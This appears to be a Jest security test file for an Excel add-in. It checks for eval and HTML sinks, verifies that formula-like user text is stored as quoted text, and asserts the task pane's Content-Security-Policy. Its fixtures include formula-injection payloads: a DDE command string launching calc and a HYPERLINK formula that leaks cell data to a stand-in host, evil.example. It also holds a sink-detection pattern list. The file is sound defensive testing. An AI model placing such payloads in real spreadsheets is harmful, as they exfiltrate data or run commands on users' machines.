/**
 * Security (issue 8, point 4): no code-from-strings or HTML injection sinks in src/; every string the
 * add-in writes from hostile user text reaches the workbook as text through both adapters (no <f>
 * element in the saved XML; Excel's text prefix through Office.js); the task pane's CSP allows no
 * requests but its own origin and Office.js. The manifest's ReadWriteDocument-only permission is
 * tested in test/manifest/manifest.test.ts; the browser test (test/e2e) checks no other request is made.
 */
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { CellValue, WritePlan } from "../../src/engine";
import { ExcelHost } from "../../src/excel";
import { XlsxHost, readWorkbookBytes, workbookToBuffer } from "../../src/xlsx";
import { FakeExcel } from "../helpers/fake-excel";
import { OfficeHost, WEB_1_13 } from "../helpers/office-host/emulator";
import { onlyArea, workbook } from "../helpers/grid";
import { HEADER, dataRow, runEngine } from "./support";

const ROOT = join(__dirname, "../..");

// ---------- no eval, no new Function, no HTML sinks, no string timers ----------

const SINKS: readonly [string, RegExp][] = [
  ["eval", /\beval\s*\(/],
  ["new Function", /\bnew\s+Function\s*\(/],
  ["Function constructor call", /(?<!new\s+|[\w.])Function\s*\(\s*["'`]/],
  ["innerHTML", /\binnerHTML\b/],
  ["outerHTML", /\bouterHTML\b/],
  ["insertAdjacentHTML", /\binsertAdjacentHTML\b/],
  ["dangerouslySetInnerHTML", /\bdangerouslySetInnerHTML\b/],
  ["document.write", /\bdocument\.write(ln)?\s*\(/],
  ["string timer", /\bset(Timeout|Interval|Immediate)\s*\(\s*["'`]/],
  ["javascript: URL", /["'`]javascript:/i],
];

/** The sinks a text uses, by name. */
export function sinksIn(text: string): string[] {
  return SINKS.filter(([, re]) => re.test(text)).map(([name]) => name);
}

function sourceFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return sourceFiles(path);
    return /\.(ts|tsx|js|mjs|cjs|html)$/.test(name) ? [path] : [];
  });
}

describe("no code from strings and no HTML sinks in src/", () => {
  it("the scanner finds each sink it looks for", () => {
    const samples = [
      "eval(code)",
      "const f = new Function('a', body)",
      "Function('return this')()",
      "el.innerHTML = cell",
      "el.outerHTML = x",
      "el.insertAdjacentHTML('beforeend', x)",
      "<div dangerouslySetInnerHTML={{ __html: x }} />",
      "document.write(x)",
      'setTimeout("run()", 10)',
      "href='javascript:alert(1)'",
    ];
    expect(samples.map((s) => sinksIn(s).length)).toEqual(samples.map(() => 1));
    expect(sinksIn("setTimeout(() => run(), 10); evaluate(x); element.textContent = x")).toEqual(
      []
    );
  });

  it("no source file uses any of them", () => {
    const files = sourceFiles(join(ROOT, "src"));
    expect(files.length).toBeGreaterThan(50);
    const found = files.flatMap((f) =>
      sinksIn(readFileSync(f, "utf8")).map((s) => `${relative(ROOT, f)}: ${s}`)
    );
    expect(found).toEqual([]);
  });
});

// ---------- hostile user text is written as text by both adapters ----------

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1)",
  "=1+1",
];

/** The hostile snapshot as an ExcelJS workbook (the user's cells typed as text). */
function hostileWorkbook(): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  for (const s of hostileSnapshot().sheets) {
    const ws = wb.addWorksheet(s.name);
    onlyArea(s).values.forEach((row) => ws.addRow([...row]));
  }
  return wb;
}

/** A table whose titles, ambitions, partners and comments are formula-like text. */
function hostileSnapshot() {
  const rows: CellValue[][] = HOSTILE.map((h, i) =>
    dataRow({
      A: h,
      B: `NI ${154 + i} ${h}`,
      G: h,
      H: 600 + i,
    })
  );
  const header = HEADER.map((r, i) => [...r, i === 0 ? "Comments" : ""]);
  return workbook([{ rows: [...header, ...rows.map((r, i) => [...r, HOSTILE[i] ?? ""])] }]);
}

/** Every string value a plan writes, with where. */
function planStrings(plan: WritePlan): { sheet: string; row: number; col: number; text: string }[] {
  const out: { sheet: string; row: number; col: number; text: string }[] = [];
  const sheets = [
    ...plan.edits.map((e) => ({ name: e.sheet, blocks: e.blocks })),
    ...plan.newSheets,
  ];
  for (const s of sheets)
    for (const b of s.blocks)
      b.values.forEach((row, i) =>
        row.forEach((v, j) => {
          if (typeof v === "string")
            out.push({ sheet: s.name, row: b.top + i, col: b.left + j, text: v });
        })
      );
  return out;
}

function plans(): WritePlan[] {
  const run = runEngine(hostileSnapshot());
  if (!run.rag.ok || !run.board.ok) throw new Error("both plans should be written");
  return [run.rag.plan, run.board.plan];
}

const dangerous = (text: string) => /^[=+\-@]/.test(text);

describe("hostile user text in RAG and board plans", () => {
  it("reaches the plans as plain strings (the board copies titles, ambitions and partners)", () => {
    const strings = plans().flatMap(planStrings);
    const risky = strings.filter((s) => dangerous(s.text));
    // Not vacuous: the hostile text is really there to be written.
    for (const h of ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "=1+1"])
      expect(risky.map((s) => s.text)).toContain(h);
  });

  it("xlsx: the saved workbook has no formula anywhere, the text is stored as written, and text Excel would reinterpret when edited gets the quote prefix", async () => {
    const host = XlsxHost.fromBytes(await workbookToBuffer(hostileWorkbook()));
    for (const plan of plans()) await host.applyPlan(plan);
    const zip = await JSZip.loadAsync(host.toBytes());
    const sheetsXml = await Promise.all(
      Object.keys(zip.files)
        .filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))
        .map((n) => zip.file(n)?.async("string") ?? "")
    );
    expect(sheetsXml.length).toBe(2);
    for (const xml of sheetsXml) expect(xml).not.toMatch(/<f[\s>]/);
    // Read back, every hostile string is a text value of the board sheet, exactly as written.
    const back = readWorkbookBytes(host.toBytes());
    const board = back.snapshot.sheets.find((s) => s.name.startsWith("Board status"));
    const texts = new Set(
      board?.areas.flatMap((a) => a.values.flat()).filter((v) => typeof v === "string")
    );
    for (const h of HOSTILE.slice(1)) expect(texts).toContain(h);
    // Each cell holding one has a cell format with Excel's quote prefix.
    const styles = (await zip.file("xl/styles.xml")?.async("string")) ?? "";
    const xfs =
      /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1]?.match(/<xf\b[^>]*>/g) ?? [];
    const boardXml = sheetsXml.find((x) => x.includes("inlineStr") && x.includes("-2+3")) ?? "";
    const prefixed = [
      ...boardXml.matchAll(/<c r="[A-Z]+\d+" s="(\d+)" t="inlineStr"><is><t>([^<]*)<\/t>/g),
    ]
      .filter((m) =>
        HOSTILE.slice(1).some((h) => m[2] === h.replace(/&/g, "&amp;").replace(/"/g, "&quot;"))
      )
      .map((m) => xfs[Number(m[1])] ?? "");
    expect(prefixed.length).toBeGreaterThan(3);
    for (const xf of prefixed) expect(xf).toMatch(/quotePrefix="1"/);
  });

  it("Office.js: every such string goes behind Excel's text prefix and no cell becomes a formula", async () => {
    const snapshot = hostileSnapshot();
    const fake = new FakeExcel([
      { name: "LAA", rows: onlyArea(snapshot.sheets[0]).values.map((r) => [...r]) },
    ]);
    const office = new OfficeHost(fake, WEB_1_13);
    const uninstall = office.install();
    try {
      const host = new ExcelHost({ runOptions: office.runOptions });
      await host.readSnapshot();
      const [rag, board] = plans() as [WritePlan, WritePlan];
      await host.applyPlan(rag);
      await host.readSnapshot();
      await host.applyPlan(board);
      const written = [rag, board].flatMap(planStrings).filter((s) => dangerous(s.text));
      expect(written.length).toBeGreaterThan(0);
      for (const w of written) {
        const cell = fake.sheet(w.sheet).peek(w.row, w.col);
        expect(cell).toMatchObject({ value: w.text, quotePrefix: true });
        expect(cell?.formula).toBeUndefined();
      }
      for (const s of fake.sheets)
        for (const [, row] of s.cells)
          for (const [, cell] of row) expect(cell.formula).toBeUndefined();
    } finally {
      uninstall();
    }
  });
});

// ---------- the task pane's Content-Security-Policy ----------

describe("Content-Security-Policy of the pages the add-in serves", () => {
  const csp = (page: string): Record<string, string> => {
    const html = readFileSync(join(ROOT, page), "utf8");
    const m = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html);
    if (!m?.[1]) throw new Error(`${page} has no CSP`);
    return Object.fromEntries(
      m[1].split(";").map((d) => {
        const [name = "", ...values] = d.trim().split(/\s+/);
        return [name, values.join(" ")];
      })
    );
  };

  it("the task pane loads scripts only from itself and Office.js, and connects only to itself and Office's telemetry", () => {
    const p = csp("src/taskpane/taskpane.html");
    expect(p["default-src"]).toBe("'self'");
    expect(p["script-src"]).toBe("'self' https://appsforoffice.microsoft.com");
    const connect = (p["connect-src"] ?? "").split(" ");
    expect(connect[0]).toBe("'self'");
    for (const host of connect.slice(1))
      expect(host).toMatch(/^https:\/\/[a-z]+\.pipe\.aria\.microsoft\.com$/);
    expect(p["object-src"]).toBe("'none'");
    for (const v of Object.values(p)) expect(v).not.toMatch(/unsafe-eval|\*/);
    expect(p["script-src"]).not.toMatch(/unsafe-inline/);
  });

  it("the task pane lets Office.js open its own frame and send its telemetry", () => {
    // The hosts come from Microsoft's library itself, so a new collector host fails this test.
    const dist = join(ROOT, "node_modules/@microsoft/office-js/dist");
    const telemetry = readdirSync(join(dist, "ariatelemetry"))
      .map((f) => readFileSync(join(dist, "ariatelemetry", f), "utf8"))
      .join("\n");
    const collectors = new Set(telemetry.match(/https:\/\/[a-z]+\.pipe\.aria\.microsoft\.com/g));
    expect(collectors.size).toBeGreaterThan(0);
    const p = csp("src/taskpane/taskpane.html");
    const connect = (p["connect-src"] ?? "").split(" ");
    for (const host of collectors) expect(connect).toContain(host);
    // Office.js frames its error page from the folder it was loaded from (its CDN).
    expect(readFileSync(join(dist, "excel-web-16.00.js"), "utf8")).toMatch(
      /AgaveErrorUX\/index\.html/
    );
    expect((p["frame-src"] ?? "").split(" ")).toContain("https://appsforoffice.microsoft.com");
  });

  it.each(["src/demo/demo.html"])("%s allows no eval and no wildcard source", (page) => {
    const p = csp(page);
    for (const v of Object.values(p)) expect(v).not.toMatch(/unsafe-eval|(^|\s)\*(\s|$)/);
    expect(p["connect-src"] ?? p["default-src"]).toBe("'self'");
  });
});
